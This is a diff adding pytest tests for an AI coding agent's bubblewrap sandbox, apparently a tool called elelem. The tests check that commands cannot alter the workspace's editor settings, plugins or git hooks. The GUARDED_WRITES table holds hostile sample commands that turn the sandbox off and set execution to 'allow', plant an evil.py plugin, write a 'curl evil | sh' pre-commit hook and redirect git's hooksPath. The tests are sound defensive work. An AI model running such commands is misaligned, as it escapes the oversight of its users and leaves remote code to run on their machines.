@@ -147,7 +147,7 @@ async def run(root: Path, command: str, **settings) -> dict:
 async def test_each_attack_is_stopped_in_the_sandbox(project, targets, attack):
     result = await run(project, targets.commands()[attack])
     assert result["ok"] is True, result
-    assert result["sandbox"] == "bubblewrap: writes only to the workspace and a private /tmp, network off"
+    assert result["sandbox"] == "bubblewrap: writes only to the workspace (not its settings, plugins or git hooks) and a private /tmp, network off"
     assert targets.escaped()[attack] is False, result["output"]
 
 
@@ -194,6 +194,62 @@ async def test_a_timeout_ends_the_sandbox_and_what_it_started(project, targets):
     result = await Toolbox().call("execute", {"command": command, "timeout": 2}, ws)
     assert result["ok"] is False and "timed out" in result["error"] and "started" in result["error"]
     assert not any(still_alive_after(pid, 1.0) for pid in targets.leftovers())
+
+
+# -- the workspace's guarded files: its settings, plugins and git hooks stay as they are ------------
+
+SETTINGS = '{"elelem.execute": "ask"}\n'
+# Each a command that would loosen elelem or leave code to run outside the sandbox later, and
+# the file it aims at: present in the folder (read-only) or missing (it must stay missing).
+GUARDED_WRITES = {
+    "the editor's settings": ('echo \'{"elelem.sandbox": "off", "elelem.execute": "allow"}\' > .vscode/settings.json', ".vscode/settings.json"),
+    "the editor's settings, replaced": ("rm -rf .vscode; mkdir .vscode && echo '{}' > .vscode/settings.json", ".vscode/settings.json"),
+    "the editor's settings, moved": ("mv .vscode v && mkdir .vscode && echo '{}' > .vscode/settings.json", ".vscode/settings.json"),
+    "Zed's settings, created": ("mkdir -p .zed && echo '{}' > .zed/settings.json", ".zed/settings.json"),
+    "Neovim's exrc, created": ("echo 'vim.g.x = 1' > .nvim.lua", ".nvim.lua"),
+    "Emacs's dir-locals, created": ("echo '((nil . ((elelem-sandbox . \"off\"))))' > .dir-locals.el", ".dir-locals.el"),
+    "a workspace plugin": ("mkdir -p .agents/plugins && echo 'import os' > .agents/plugins/evil.py", ".agents/plugins/evil.py"),
+    "a git hook": ("echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit", ".git/hooks/pre-commit"),
+    "git's config": ("git config core.hooksPath /tmp/evil", ".git/config"),
+}
+
+
+def guarded_project(project: Path) -> dict[str, bytes | None]:
+    """A repository with VS Code settings and nothing else guarded; what each aimed-at file holds."""
+    (project / ".vscode").mkdir()
+    (project / ".vscode" / "settings.json").write_text(SETTINGS)
+    assert os.system(f"git init -q {project}") == 0
+    return {target: read_or_none(project / target) for _, target in GUARDED_WRITES.values()}
+
+
+def read_or_none(path: Path) -> bytes | None:
+    return path.read_bytes() if path.is_file() else None
+
+
+@pytest.mark.parametrize("attack", GUARDED_WRITES)
+async def test_a_command_cannot_change_the_folders_settings_plugins_or_git_hooks(project, attack):
+    before = guarded_project(project)
+    command, target = GUARDED_WRITES[attack]
+    result = await run(project, command)
+    assert result["exit_code"] != 0, result["output"]
+    assert read_or_none(project / target) == before[target]
+    assert sorted(p.name for p in project.iterdir()) == [".git", ".vscode", "README.md"]  # no placeholder left
+    assert (project / ".vscode" / "settings.json").read_text() == SETTINGS
+
+
+@pytest.mark.parametrize("attack", ["the editor's settings", "a workspace plugin", "a git hook"])
+async def test_with_the_sandbox_off_a_command_changes_them(project, attack):
+    guarded_project(project)
+    command, target = GUARDED_WRITES[attack]
+    result = await run(project, command, sandbox="off")
+    assert result["exit_code"] == 0 and (project / target).is_file(), result["output"]
+
+
+async def test_git_still_commits_and_a_new_repository_can_be_made_in_the_sandbox(project):
+    guarded_project(project)
+    commit = "git add README.md && git -c user.name=a -c user.email=a@b commit -qm first && git log --format=%s"
+    result = await run(project, f"{commit} && mkdir sub && git init -q sub && ls sub/.git/config")
+    assert (result["exit_code"], result["output"]) == (0, "first\nsub/.git/config\n")
 
 
 # -- through the faces ---------------------------------------------------------------------------
